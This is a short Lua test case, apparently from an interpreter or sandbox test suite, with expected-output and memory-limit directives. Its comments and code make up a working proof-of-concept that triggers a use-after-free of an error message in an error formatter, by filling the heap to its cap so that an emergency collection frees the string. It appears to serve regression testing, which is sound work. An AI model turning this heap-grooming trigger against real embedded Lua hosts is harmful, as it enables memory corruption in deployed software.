-- Attack: use-after-free of the error message.  If the formatter reads
-- err.message through __index, the string it gets back is referenced by
-- nothing once popped; the formatter then allocates (the traceback), and
-- an emergency collection at the memory cap frees the string before it
-- is copied.  The __index below builds a fresh 1 MiB message, fills the
-- state to within a few bytes of the cap with blocks it keeps, drops a
-- spare block so the retried allocations succeed, and returns.  Under
-- ASan this is a heap-use-after-free; without it, garbage in the error.
-- expect: table without a 'message' field
-- limits: mem=32m cpu_ms=10000
local LIMIT = 32 * 1024 * 1024
local slots = {}                  -- preallocated: storing a block costs nothing
for i = 1, 4096 do slots[i] = false end
local nslots = 0
local function keep(ok, block)
  if ok then nslots = nslots + 1 slots[nslots] = block end
  return ok
end
local function used() return math.floor(collectgarbage("count") * 1024) end
local function fill()
  local size = 1024 * 1024
  while size >= 1024 do          -- big blocks while they fit
    if not keep(pcall(string.rep, "f", size - 25)) then size = size // 2 end
  end
  for _ = 1, 64 do               -- then exact sizes: n chars cost 25 + n bytes
    local room = LIMIT - used()
    if room < 40 then return end
    local n = room - 25 - 12
    if n > 40 then keep(pcall(string.rep, "g", n))
    else keep(pcall(string.rep, "Z", n)) end
  end
end
local err = setmetatable({}, { __index = function(_, k)
  if k ~= "message" then return nil end
  local msg = ("M"):rep(1024 * 1024)
  local spare = ("S"):rep(256 * 1024)
  pcall(fill)
  spare = nil
  return msg
end })
error(err)
